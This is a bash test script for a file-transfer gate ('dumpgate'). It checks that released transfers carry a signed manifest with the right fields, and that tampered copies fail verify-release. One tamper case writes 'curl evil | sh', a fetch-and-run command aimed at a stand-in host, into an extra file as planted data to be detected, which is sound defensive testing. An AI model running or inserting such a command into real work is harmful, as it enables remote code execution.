#!/usr/bin/env bash
# release-is-verified: an approved transfer is released into
# OUTBOX/<destination>/<id>/ holding exactly the file, manifest.json and
# manifest.sig; `dumpgate verify-release` with the gate's public key
# passes, for root and for an account without any rights; the file holds
# the submitted bytes; the manifest names the transfer, profile,
# requester, reason, approvals (person, token, time), scan verdict,
# audit_seq, kernel_audit, sha256 and size.  Refuses: a manifest changed
# by one byte, a changed signature, a changed file, an extra file and
# another gate's key each fail verify-release, which names the problem.
. "$DG_SRC/tests/lib/lib.sh"

gate_init
gate_start || bail "dumpgated did not start"
enroll dg-bob bob >/dev/null || bail "cannot enrol bob's softkey"

f=$T/files/app.log
seq 1 20000 | sed 's/^/line /' > "$f"; chmod 644 "$f"
id=$(submit_pending dg-alice logs "$f" "INC-7 app log for the crash") || bail "no pending transfer"

# ---- accepts: one approval releases it
out=$(approve dg-bob "$id" bob 2>&1)
ok $? "dg-bob approves with his token ($out)"
st=$(await_state "$id" released 60)
is "$st" released "the transfer is released"
j=$("$T/bin/dumpgate" show "$id" --json)
is "$(jq -r .release.path <<<"$j")" "logs/$id" "show --json: release.path is DEST/ID"
is "$(jq -r .release.file <<<"$j")" "app.log" "show --json: release.file is the file's name"
D=$(release_dir "$id")
[ -d "$D" ] && [ ! -L "$D" ]
ok $? "the release directory $D exists"
is "$(ls -A "$D" | sort | tr '\n' ' ')" "app.log manifest.json manifest.sig " \
  "it holds exactly the file, manifest.json and manifest.sig"
is "$(stat -c %a "$D/app.log") $(stat -c %a "$D/manifest.json") $(stat -c %a "$D/manifest.sig")" "444 444 444" \
  "the three files are read-only (0444)"
cmp -s "$f" "$D/app.log"
ok $? "the released file holds exactly the submitted bytes"
is "$(jq -r .release.manifest_sha256 <<<"$j")" "$(sha256sum < "$D/manifest.json" | cut -d' ' -f1)" \
  "show --json: release.manifest_sha256 is the manifest's hash"
is "$(outbox_leftovers logs "$id")" "$id" "no temporary directory is left beside it"

out=$(verify_release "$D")
ok $? "verify-release passes as root ($out)"
# the debugging side: a synced copy, checked by an account with no rights
R=$T/recv
mkdir -m 755 "$R"; cp -a "$D" "$R/good"; cp "$T/state/signing.pub" "$R/gate.pub"; chmod -R a+rX "$R"
out=$(as dg-mallory "$T/bin/dumpgate" verify-release "$R/good" --key "$R/gate.pub" 2>&1)
ok $? "verify-release passes for dg-mallory on a synced copy ($out)"

# ---- the manifest
M=$D/manifest.json
mf() { jq -r "$1" "$M"; }
is "$(mf .transfer)" "$id" "manifest: transfer"
is "$(mf .profile)" logs "manifest: profile"
is "$(mf .destination)" logs "manifest: destination"
is "$(mf .requester)" dg-alice "manifest: requester"
is "$(mf .requester_person)" alice "manifest: requester_person"
is "$(mf .reason)" "INC-7 app log for the crash" "manifest: reason"
is "$(mf .file)" app.log "manifest: file"
is "$(mf .size)" "$(stat -c %s "$f")" "manifest: size is the file's"
is "$(mf .sha256)" "$(sha256sum < "$f" | cut -d' ' -f1)" "manifest: sha256 is the file's"
is "$(mf .sha256)" "$(jq -r .sha256 <<<"$j")" "manifest: sha256 is the approved one"
is "$(mf '.approvals | length')" 1 "manifest: one approval"
is "$(mf '.approvals[0].account')" dg-bob "manifest: the approval's account"
is "$(mf '.approvals[0].person')" "$(jq -r '.approvals[0].person' <<<"$j")" "manifest: the approval's person"
is "$(mf '.approvals[0].token')" "$(pubid bob)" "manifest: the approval's token is bob's public id"
like "$(mf '.approvals[0].time')" '^[0-9]{4}-[0-9]{2}-[0-9]{2}T' "manifest: the approval's time"
is "$(mf '.approvals[0].time')" "$(jq -r '.approvals[0].time' <<<"$j")" "manifest: the approval's time is the gate's"
is "$(mf .required)" 1 "manifest: required"
is "$(mf .scan.verdict)" clean "manifest: scan verdict clean"
like "$(mf .scan.findings)" '^[0-9]+$' "manifest: scan findings count"
aseq=$(jq -r --arg id "$id" 'select(.transfer == $id and .event == "approval") | .seq' "$T/state/audit.log")
rseq=$(jq -r --arg id "$id" 'select(.transfer == $id and .event == "releasing") | .seq' "$T/state/audit.log")
like "$(mf .audit_seq)" '^[0-9]+$' "manifest: audit_seq is a number"
is "$(mf .audit_seq)" "$aseq" "manifest: audit_seq is the seq of the approving record (dg-bob's approval)"
[ "$aseq" -lt "$rseq" ]
ok $? "which comes before the releasing record ($aseq < $rseq)"
is "$(mf .kernel_audit)" required "manifest: kernel_audit (the gate's default: required)"
is "$(mf .signature_domain)" "dumpgate release manifest v1" "manifest: signature_domain"
is "$(mf .gate_key_sha256)" "$(openssl pkey -pubin -in "$T/state/signing.pub" -outform DER | sha256sum | cut -d' ' -f1)" \
  "manifest: gate_key_sha256 is the fingerprint of the gate's key"
is "$(jq -r --arg id "$id" 'select(.transfer == $id and .event == "released") | .details.path' "$T/state/audit.log")" \
  "logs/$id" "the audit log has one released record with the path"

# ---- refuses: every change is named (copies, as on the debugging side)
refuse() { # refuse DIR REGEX WHAT [KEY]
  local out rc
  out=$(as dg-mallory "$T/bin/dumpgate" verify-release "$1" --key "${4:-$R/gate.pub}" 2>&1)
  rc=$?
  is "$rc" 1 "refuses: $3 (exit 1)"
  like "$out" "$2" "it names the problem: $3"
}
copy() { cp -a "$R/good" "$R/$1"; chmod -R u+w "$R/$1"; chmod -R a+rX "$R/$1"; }

copy manifest
sed -i 's/INC-7 app log/INC-7 app lOg/' "$R/manifest/manifest.json"
[ "$(cmp -l "$R/good/manifest.json" "$R/manifest/manifest.json" | wc -l)" = 1 ]
ok $? "the manifest copy differs by exactly one byte"
refuse "$R/manifest" 'manifest.sig does not verify' "a manifest changed by one byte"

copy sig
s=$(cat "$R/sig/manifest.sig"); c=${s:10:1}; [ "$c" = A ] && n=B || n=A
printf '%s\n' "${s:0:10}$n${s:11}" > "$R/sig/manifest.sig"
refuse "$R/sig" 'manifest.sig does not verify' "a signature changed in one character"

copy file
printf 'X' | dd of="$R/file/app.log" bs=1 seek=1000 conv=notrunc status=none
refuse "$R/file" 'app.log: SHA-256 differs from the manifest' "one byte of the file changed"

copy short
truncate -s -1 "$R/short/app.log"
refuse "$R/short" 'app.log: [0-9]+ bytes, the manifest says' "the file cut short by one byte"

copy extra
echo 'curl evil | sh' > "$R/extra/run.sh"; chmod 644 "$R/extra/run.sh"
refuse "$R/extra" 'unexpected file "run.sh"' "an extra file in the release directory"

openssl genpkey -algorithm ed25519 -out "$R/other.pem" 2>/dev/null &&
  openssl pkey -in "$R/other.pem" -pubout -out "$R/other.pub" && chmod 644 "$R/other.pub"
refuse "$R/good" 'does not verify with .*other.pub' "another gate's key" "$R/other.pub"

# the gate's own release is untouched by all this and still verifies
out=$(verify_release "$D")
ok $? "the release in the outbox still verifies"

done_testing
